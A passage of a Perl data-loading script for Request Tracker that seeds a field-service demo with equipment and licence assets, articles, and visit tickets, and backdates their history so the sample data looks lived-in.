    my ( $text, $files ) = @_;
    return _mime($text) unless $files && @$files;
    my $entity = MIME::Entity->build( Type => 'multipart/mixed' );
    $entity->add_part( _mime($text) );
    for my $file (@$files) {
        my ( $name, $type, $data ) = @$file;
        $entity->attach(
            Type        => $type,
            Filename    => Encode::encode( 'UTF-8', $name ),
            Data        => [$data],
            Encoding    => 'base64',
            Disposition => 'attachment',
        );
    }
    return $entity;
}

sub _create_assets {
    my $catalog = RT::Catalog->new( RT->SystemUser );
    $catalog->Load('Field Equipment');
    die "catalog 'Field Equipment' missing\n" unless $catalog->Id;
    my %cf = map { $_ => _cf_id( $_, 'RT::Catalog-RT::Asset' ) }
        ( 'Model', 'Serial Number', 'Warranty Expires', 'Site', 'Purchase Date', 'Licence Key' );
    my %asset_id;
    for my $row (@ASSETS) {
        my ( $name, $model, $serial, $warranty, $site ) = @$row;
        # Bought three years before the warranty ends (the usual vendor term).
        my $purchased = ( substr( $warranty, 0, 4 ) - 3 ) . substr( $warranty, 4 );
        $purchased =~ s/-02-29$/-02-28/;
        my $asset = RT::Asset->new( RT->SystemUser );
        my ( $ok, $msg ) = $asset->Create(
            Name                                 => $name,
            Description                          => "$model at $site",
            Catalog                              => $catalog->Id,
            Status                               => 'in-use',
            "CustomField-$cf{'Model'}"            => $model,
            "CustomField-$cf{'Serial Number'}"    => $serial,
            "CustomField-$cf{'Warranty Expires'}" => $warranty,
            "CustomField-$cf{'Site'}"             => $site,
            "CustomField-$cf{'Purchase Date'}"    => $purchased,
        );
        die "asset $name: $msg\n" unless $ok;
        _date_asset_history( $asset->Id, "$purchased 09:00:00", 'supervisor' );
        $asset_id{$name} = $asset->Id;
    }
    my $licences = RT::Catalog->new( RT->SystemUser );
    $licences->Load('Software Licences');
    die "catalog 'Software Licences' missing\n" unless $licences->Id;
    for my $row (@LICENCES) {
        my ( $name, $product, $key, $ends, $site ) = @$row;
        my $asset = RT::Asset->new( RT->SystemUser );
        my ( $ok, $msg ) = $asset->Create(
            Name                                 => $name,
            Description                          => "$product at $site",
            Catalog                              => $licences->Id,
            Status                               => 'in-use',
            "CustomField-$cf{'Model'}"            => $product,
            "CustomField-$cf{'Licence Key'}"      => $key,
            "CustomField-$cf{'Warranty Expires'}" => $ends,
            "CustomField-$cf{'Site'}"             => $site,
        );
        die "licence $name: $msg\n" unless $ok;
        my $bought = ( substr( $ends, 0, 4 ) - 1 ) . substr( $ends, 4 );
        $bought =~ s/-02-29$/-02-28/;
        _date_asset_history( $asset->Id, "$bought 09:00:00", 'supervisor' );
    }
    return \%asset_id;
}

# An asset's history as an office's reads: entered by the supervisor when it was
# bought, not by RT at the minute the sample was loaded.  Only the transactions
# after ``after_id`` (0: all of them); ``by`` undef keeps who made them.
sub _date_asset_history {
    my ( $asset_id, $when, $by, $after_id ) = @_;
    my $txns = _transactions_of( 'RT::Asset', $asset_id );
    $txns->Limit( FIELD => 'id', OPERATOR => '>', VALUE => $after_id || 0 );
    my $creator = $by ? _user($by)->Id : undef;
    while ( my $txn = $txns->Next ) {
        my ( $ok, $err ) = $txn->__Set( Field => 'Created', Value => $when );
        die "dating asset $asset_id: $err\n" unless $ok;
        $txn->__Set( Field => 'Creator', Value => $creator ) if $creator;
    }
    my $asset = RT::Asset->new( RT->SystemUser );
    $asset->Load($asset_id);
    $asset->__Set( Field => 'Created', Value => $when ) unless $after_id;
    $asset->__Set( Field => 'Creator', Value => $creator ) if $creator && !$after_id;
}

# Articles of a class: the knowledge base, or checklist templates.
sub _create_articles {
    my ( $class_name, $rows ) = @_;
    my $class = RT::Class->new( RT->SystemUser );
    $class->Load($class_name);
    die "class '$class_name' missing\n" unless $class->Id;
    my $content = _cf_id( 'Content', 'RT::Class-RT::Article' );
    for my $row (@$rows) {
        my ( $name, $summary, $body ) = @$row;
        my $article = RT::Article->new( RT->SystemUser );
        my ( $ok, $msg ) = $article->Create(
            Class                  => $class->Id,
            Name                   => $name,
            Summary                => $summary,
            "CustomField-$content" => $body,
        );
        die "article '$name': $msg\n" unless $ok;
    }
}

sub _create_visit {
    my ( $visit, $asset_id, $cf, $now ) = @_;
    my $midnight = $now - ( $now % 86400 );
    my %fields = (
        ( $visit->{visit_type} ? ( 'Visit Type' => $visit->{visit_type} ) : () ),
        Site    => $visit->{site},
        Address => $visit->{address},
        Contact => $visit->{contact},
    );
    if ( defined $visit->{day} ) {
        my $start = $midnight + $visit->{day} * 86400 + int( $visit->{start} * 3600 );
        $fields{'Visit Start'} = _utc($start);
        $fields{'Visit End'}   = _utc( $start + int( $visit->{hours} * 3600 ) );
    }
    my $ticket = RT::Ticket->new( RT->SystemUser );
    my ( $id, $create_txn, $msg ) = $ticket->Create(
        Queue     => 'Field Service',
        Subject   => $visit->{subject},
        Requestor => [ $visit->{requestor} ],
        Owner     => $visit->{owner} ? _user( $visit->{owner} )->Id : RT->Nobody->Id,
        Priority  => $visit->{priority},
        Due       => _utc( $now + $visit->{due_hours} * 3600 ),
        MIMEObj   => _mime( $visit->{body} ),
        ( map { ( "CustomField-$cf->{$_}" => $fields{$_} ) } keys %fields ),
    );
    die "visit '$visit->{subject}': $msg\n" unless $id;
    # Opened before the demo, as real tickets are: the board's Age column reads Created.
    my $age_hours = $visit->{age_hours} // ( 72 - $visit->{due_hours} );
    $age_hours = 2 if $age_hours < 2;
    my ( $dated, $date_msg ) = $ticket->__Set( Field => 'Created', Value => _utc( $now - $age_hours * 3600 ) );
    die "visit '$visit->{subject}' created: $date_msg\n" unless $dated;

    # The request came by mail: RT's mail gateway creates the ticket as its sender.
    my $customer = RT::User->new( RT->SystemUser );
    $customer->LoadByEmail( $visit->{requestor} );
    die "visit '$visit->{subject}': no requestor\n" unless $customer->Id;
    $ticket->__Set( Field => 'Creator', Value => $customer->Id );
    my $created = RT::Transaction->new( RT->SystemUser );
    $created->Load($create_txn);
    $created->__Set( Field => 'Creator', Value => $customer->Id );

    # The dispatcher links the equipment and schedules the visit.
    my $as_dispatcher = RT::Ticket->new( RT::CurrentUser->new( _user('supervisor') ) );
    $as_dispatcher->Load($id);
    my $opened = _utc( $now - $age_hours * 3600 );
    for my $name ( @{ $visit->{assets} || [] } ) {
        die "visit '$visit->{subject}': unknown asset $name\n" unless $asset_id->{$name};
        my $before = _last_transaction_id( 'RT::Asset', $asset_id->{$name} );
        my ( $ok, $err ) = $as_dispatcher->AddLink( Type => 'RefersTo', Target => "asset:$asset_id->{$name}" );
        die "link $name: $err\n" unless $ok;
        _date_asset_history( $asset_id->{$name}, $opened, undef, $before );
    }
    my $last_of_the_opening = _last_transaction_id( 'RT::Ticket', $id );

    for my $entry ( @{ $visit->{history} || [] } ) {
        my ( $kind, $who, $text, $minutes, $files ) = @$entry;
        my $actor = $who eq 'customer'
            ? do { my $u = RT::User->new( RT->SystemUser ); $u->LoadByEmail( $visit->{requestor} ); $u }
            : _user($who);
        my $as_actor = RT::Ticket->new( RT::CurrentUser->new($actor) );
        $as_actor->Load($id);
        my $method = $kind eq 'correspond' ? 'Correspond' : 'Comment';
        # Requestors hold no rights on the queue (their mail would arrive
        # through the mail gateway), so record their replies directly.
        my ( $ok, $err ) =
              $kind eq 'mail'
            ? $as_actor->_NewTransaction( Type => 'Correspond', MIMEObj => _mime_with_files( $text, $files ), ActivateScrips => 0 )
            : $who eq 'customer' ? $as_actor->_RecordNote( NoteType => 'Correspond', MIMEObj => _mime($text) )
            :                      $as_actor->$method( MIMEObj => _mime($text), TimeTaken => $minutes || 0 );
        die "visit '$visit->{subject}' $kind by $who: $err\n" unless $ok;
    }

    if ( $visit->{status} ne 'new' ) {
        my ( $ok, $err ) = $as_dispatcher->SetStatus( $visit->{status} );
        die "visit '$visit->{subject}' status: $err\n" unless $ok;
    }
    _date_history( $ticket, $last_of_the_opening, $now - $age_hours * 3600, $now );
}

# The transactions of one ticket or asset (RT::Ticket, RT::Asset), oldest first.
sub _transactions_of {
    my ( $type, $id ) = @_;
    my $txns = RT::Transactions->new( RT->SystemUser );
    $txns->Limit( FIELD => 'ObjectType', VALUE => $type );
    $txns->Limit( FIELD => 'ObjectId',   VALUE => $id );
    $txns->OrderBy( FIELD => 'id', ORDER => 'ASC' );
    return $txns;
}

sub _last_transaction_id {
    my $last = _transactions_of(@_)->Last;
    return $last ? $last->Id : 0;
}

# As a helpdesk's history reads, not every entry stamped the minute the sample was
# loaded: the request and what came with it (custom fields, links) when the ticket
# was opened, the conversation after it spread over the days since, the last entry
# a quarter of an hour ago; what RT did by itself (a scrip re-opening the ticket on
# a reply) at the moment of the entry that set it off.  In the order they were made.
sub _date_history {
    my ( $ticket, $last_of_the_opening, $opened, $now ) = @_;
    my $txns  = _transactions_of( 'RT::Ticket', $ticket->Id );
    my $by_rt = sub { $_[0]->Creator == RT->SystemUser->Id };
    my @all   = @{ $txns->ItemsArrayRef };
    my @later = grep { $_->Id > $last_of_the_opening && !$by_rt->($_) } @all;
    my $first = $opened + 1800;
    my $span  = ( $now - 900 ) - $first;
    $span = 0 if $span < 0;
    my ( $n, $when ) = ( 0, $opened );
    for my $txn (@all) {
        if ( $txn->Id > $last_of_the_opening && !$by_rt->($txn) ) {
            $when = $first + ( @later > 1 ? int( $span * $n++ / $#later ) : $span );
        }
        my ( $ok, $err ) = $txn->__Set( Field => 'Created', Value => _utc($when) );
        die "dating transaction " . $txn->Id . ": $err\n" unless $ok;
    }
}

@Final = (
    sub {
        require MIME::Entity;
        require Encode;
        my $asset_id = _create_assets();
        _create_articles( 'Field KB',         \@ARTICLES );
        _create_articles( 'Field Checklists', \@CHECKLISTS );
        my %cf = map { $_ => _cf_id( $_, 'RT::Queue-RT::Ticket' ) }
            ( 'Site', 'Address', 'Contact', 'Visit Start', 'Visit End', 'Visit Type' );
        my $now = time;
        _create_visit( $_, $asset_id, \%cf, $now ) for @VISITS;
    },
);

1;
